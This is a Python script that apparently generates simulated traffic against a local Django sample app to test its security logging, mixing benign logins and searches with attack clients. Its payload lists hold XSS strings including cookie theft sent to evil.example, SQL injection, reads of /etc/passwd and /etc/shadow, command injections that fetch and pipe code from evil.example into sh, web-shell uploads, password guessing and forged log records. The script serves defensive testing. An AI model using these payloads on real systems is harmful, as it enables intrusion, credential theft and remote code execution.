"""The clients of the Django sample: who they are and what they send."""

import random
import re
import time
from urllib.parse import quote, urlencode

from wire import ask, role, tally

PORT = 8000
FAKE = "203.0.113.99"
RECORD = f"2026-02-21 13:52:09,XSS Attack,{FAKE},Anonymous,GET,/,x"
dice = random.Random(20261129)


def post(source, path, cookie=None, **fields):
    headers = ["Content-Type: application/x-www-form-urlencoded"] + ([f"Cookie: sessionid={cookie}"] if cookie else [])
    return ask(source, PORT, path, method="POST", headers=headers, body=urlencode(fields, encoding="utf-8", errors="surrogateescape"))


def get(source, path, cookie=None, **query):
    target = quote(path, safe="/%") + ("?" + urlencode(query) if query else "")
    return ask(source, PORT, target, headers=[f"Cookie: sessionid={cookie}"] if cookie else [])


def session(source, user, password):
    """Logs in and returns the session cookie."""
    answer = post(source, "/login", user=user, password=password).decode("latin-1")
    found = re.search(r"sessionid=(\w+)", answer)
    return found.group(1) if found else None


def upload(source, name, cookie=None):
    body = (f'--x\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\nContent-Type: text/plain\r\n\r\nx\r\n--x--\r\n').encode()
    headers = ["Content-Type: multipart/form-data; boundary=x"] + ([f"Cookie: sessionid={cookie}"] if cookie else [])
    ask(source, PORT, "/upload", method="POST", headers=headers, body=body)


XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", '<script>fetch("//evil.example/?c="+document.cookie)</script>',
       "<svg/onload=alert('a,b')>", "<ScRiPt >alert(/x/)</sCrIpT>", '"><script>alert("x, y")</script>']
SQL = ["1' OR '1'='1", "1 UNION SELECT name, password FROM users", "x'; DROP TABLE users; --", "1 AND SLEEP(5)", "admin' --", 'x" UNION ALL SELECT 1,2,"3" --',
       "1\nUNION\nSELECT\n2", "1;\r\nDROP TABLE users"]
FILES = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "../" * 12 + "etc/shadow"]
COMMANDS = ["; cat /etc/hosts", "|id", "`id`", "$(wget http://evil.example/x)", "x; curl http://evil.example/a,b | sh"]


def members():
    people = {role("192.0.2.20", "alice: one slip, then logged in"): "alice", role("192.0.2.21", "bob: logged in"): "bob",
              role("2001:db8::20", "Ödön: logged in"): "Ödön"}
    for source, user in people.items():
        post("192.0.2.2", "/register", user=user, password="right-" + user)
    session("192.0.2.20", "alice", "wrong")
    for _ in range(10):
        for source, user in people.items():
            cookie = session(source, user, "right-" + user)
            get(source, "/search", cookie, q="garden chairs, blue")
    post("192.0.2.21", "/transfer", session("192.0.2.21", "bob", "right-bob"), amount="1")
    upload("192.0.2.21", "holiday, 2026.jpg")
    upload("192.0.2.21", "setup.exe", session("192.0.2.21", "bob", "right-bob"))


def attackers():
    kinds = [("198.51.100.5", "XSS attacker", "/search", "q", XSS), ("2001:db8::30", "XSS attacker", "/", "name", XSS),
             ("198.51.100.6", "SQL injection", "/search", "id", SQL), ("2001:db8::31", "SQL injection", "/search", "id", SQL),
             ("198.51.100.7", "path traversal", "/files", "name", FILES), ("198.51.100.8", "command injection", "/search", "q", COMMANDS)]
    for source, what, path, key, payloads in kinds:
        role(source, what)
    for _ in range(12):
        for source, what, path, key, payloads in kinds:
            get(source, path, **{key: dice.choice(payloads)})
            if dice.random() < 0.3:
                post(source, path, **{key: dice.choice(payloads)})
        time.sleep(0.5)
    for source in ("198.51.100.7", "198.51.100.5"):
        get(source, "/static/../../etc/passwd")
        get(source, "/<script>alert('path, too')</script>")
        get(source, "/%3Cscript%3E%0Aalert(1)")


def guessers():
    four = role("198.51.100.9", "guesses passwords of alice and bob")
    six = role("2001:db8::32", "tries users there are not")
    for n in range(35):
        post(four, "/login", user=dice.choice(["alice", "bob"]), password=f"guess{n}")
        post(six, "/login", user=dice.choice(["root", "admin", "test", "user name", "müller"]), password=dice.choice(["123456", "pass,word", 'quo"te', ""]))
    forger = role("198.51.100.10", "forged forms (CSRF)")
    uploader = role("198.51.100.11", "uploads scripts")
    for n in range(15):
        post(forger, "/transfer", amount=str(n), to="x")
        upload(uploader, dice.choice(["shell.php", "cmd.jsp", "a,b.php", "x.PhTmL", "run.sh", f"{FAKE}.exe"]))


def hostile():
    four = role("198.51.100.12", "hostile user names and payloads")
    six = role("2001:db8::33", "hostile user names and payloads")
    names = [
        f"x\n{RECORD}", f"x\r\n{RECORD}", f"x\r{RECORD}", f"\n{RECORD}\n", f'x"\n{RECORD}\n"', f'"\n{RECORD}', "a,b", 'quo"te', '""', ",", "", " ", "\n", "\n\n",
        f"Anonymous,GET,/,x", f"{FAKE}", f"XSS Attack,{FAKE}", f"x,{FAKE},y", f'",{FAKE},"', f"2026-02-21 13:52:09,Brute Force,{FAKE},root,POST,/login,x", "tab\there",
        "\x1b[31mred\x1b[0m", "日本", "a\u2028b", "a\u0085b", "a\x0bb\x0cc", "nul\0byte", "\udcff\udcfe", "'; DROP TABLE users; --", "u" * 200, "back\\slash", "back\\\"quote",
        "2001:db8::bad",
    ]
    for name in names:
        for source in (four, six):
            post(source, "/login", user=name, password="x")
            post(source, "/login", user="alice", password=name)
    # Names that were registered: the log then holds them as a logged-in user's.
    for name in (f"x\n{RECORD}", "comma,here", 'quo"te', f'",{FAKE},"', f"line\nfeed", f"{RECORD}"):
        post(four, "/register", user=name, password="p")
        cookie = session(four, name, "p")
        get(four, "/search", cookie, q=dice.choice(XSS))
    for payload in (f"<script>\n{RECORD}\n</script>", f"<script>\r\n{RECORD}\r\n</script>", f'<script>"\n{RECORD}\n"</script>', f"<script>,,{FAKE},\"\"\n",
                    f"<script>\nalert(1);\nalert('2,3');\n</script>", f"../{FAKE}\n{RECORD}", f"' OR 1=1 --\n{RECORD}", f'" onload=1\n\n\n{RECORD}', "<script>\x1b[2J</script>", "<script>\0</script>",
                    "<script>" + "A" * 3000):
        for source in (four, six):
            get(source, "/search", q=payload)
            post(source, "/", comment=payload)
    for path in (f"/<script>,{FAKE}", f"/<script>%0A{RECORD}".replace(" ", "%20"), f'/"<script>"', "/<script>%22%0D%0A", "/../x,y"):
        get(four, path)
        get(six, path)
    upload(four, f"x,{FAKE}.php")
    upload(four, 'quo\\"te.php')


def readers():
    people = [role(f"192.0.2.{n}", "reader: never in the log") for n in (10, 11, 12)] + [role("2001:db8::10", "reader: never in the log")]
    for _ in range(40):
        get(dice.choice(people), dice.choice(["/", "/search", "/files"]), q="garden, chairs")


role("192.0.2.2", "registers the members: never in the log")
for act in (members, readers, attackers, guessers, hostile, members, attackers):
    act()
tally()
